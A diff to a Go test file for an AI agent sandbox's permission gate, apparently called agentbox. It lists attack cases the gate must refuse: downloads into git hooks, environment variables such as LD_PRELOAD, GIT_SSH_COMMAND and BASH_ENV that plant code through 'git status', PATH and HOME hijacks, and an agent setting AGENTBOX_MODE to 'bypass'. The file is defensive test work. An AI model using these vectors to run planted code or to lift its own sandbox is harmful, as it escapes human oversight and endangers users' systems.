@@ -215,9 +215,13 @@ func gateAttacks() []attack {
 		attack{name: "fetch download_to hook", applet: "fetch", req: `{"url":"https://example.invalid/x","download_to":".git/hooks/pre-commit"}`, want: refused, created: []string{".git/hooks/pre-commit"}},
 		attack{name: "fetch download_to locked", applet: "fetch", req: `{"url":"https://example.invalid/x","download_to":"locked/x"}`, want: refused, created: []string{"locked/x"}},
 	)
-	// 3. Whatever changes what a command runs is part of the decision.
+	// 3. Whatever changes what a command runs is part of the decision: where a rule
+	// allows the command (git status), a variable that plants code needs a person or a
+	// shell.env rule. In bypass every command is allowed, so the variables are too
+	// (TestCodeLoadingEnv); agentbox's own settings are refused in every mode.
+	as = append(as, attack{name: "bash env AGENTBOX_MODE", applet: "bash", req: `{"command":"git status","env":{"AGENTBOX_MODE":"bypass"}}`, want: refused, modes: []string{"default", "accept-edits", "bypass"}})
 	for _, kv := range [][2]string{{"GIT_CONFIG_COUNT", "1"}, {"GIT_CONFIG_KEY_0", "core.fsmonitor"}, {"GIT_SSH_COMMAND", "touch pwned"}, {"GIT_EXTERNAL_DIFF", "touch pwned"}, {"LD_PRELOAD", "/tmp/x.so"}, {"BASH_ENV", "/tmp/x"}, {"PYTHONSTARTUP", "/tmp/x"}, {"NODE_OPTIONS", "--require /tmp/x"}, {"PERL5OPT", "-Mx"}, {"RUBYOPT", "-rx"}, {"PROMPT_COMMAND", "touch pwned"}} {
-		as = append(as, attack{name: "bash env " + kv[0], applet: "bash", req: fmt.Sprintf(`{"command":"git status","env":{%q:%q,"GIT_CONFIG_VALUE_0":"touch pwned"}}`, kv[0], kv[1]), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits", "bypass"}, created: []string{"pwned"}})
+		as = append(as, attack{name: "bash env " + kv[0], applet: "bash", req: fmt.Sprintf(`{"command":"git status","env":{%q:%q,"GIT_CONFIG_VALUE_0":"touch pwned"}}`, kv[0], kv[1]), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits"}, created: []string{"pwned"}})
 	}
 	// The same variables set on the line (X=1 cmd, env X=1 cmd), and those that choose
 	// where programs find their config and their programs (a red-team helper's finding).
@@ -226,10 +230,10 @@ func gateAttacks() []attack {
 		`env GIT_SSH_COMMAND='touch pwned' git status`, `LD_PRELOAD=./p.so git status`, `BASH_ENV=./x git status`,
 		`HOME=./h git status`, `PATH=.:$PATH git status`,
 	} {
-		as = append(as, attack{name: "bash inline env " + line, applet: "bash", req: fmt.Sprintf(`{"command":%q}`, line), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits", "bypass"}, created: []string{"pwned"}})
+		as = append(as, attack{name: "bash inline env " + line, applet: "bash", req: fmt.Sprintf(`{"command":%q}`, line), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits"}, created: []string{"pwned"}})
 	}
 	for _, kv := range [][2]string{{"HOME", "{root}/h"}, {"XDG_CONFIG_HOME", "{root}/x"}, {"PATH", "{root}/bin:/usr/bin:/bin"}, {"GCONV_PATH", "{root}"}, {"EDITOR", "touch pwned"}} {
-		as = append(as, attack{name: "bash env " + kv[0], applet: "bash", req: fmt.Sprintf(`{"command":"git status","env":{%q:%q}}`, kv[0], kv[1]), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits", "bypass"}, created: []string{"pwned"}})
+		as = append(as, attack{name: "bash env " + kv[0], applet: "bash", req: fmt.Sprintf(`{"command":"git status","env":{%q:%q}}`, kv[0], kv[1]), want: append([]string{"invalid_params"}, refused...), modes: []string{"default", "accept-edits"}, created: []string{"pwned"}})
 	}
 	// 4. Command rules see through global options.
 	for _, line := range []string{"git push", "git -C . push", "git -c a=b push", "git --no-pager push", "git --git-dir=.git push", "git --work-tree=. push origin", "command git push", "env git push", "git status && git push", "echo $(git push)",
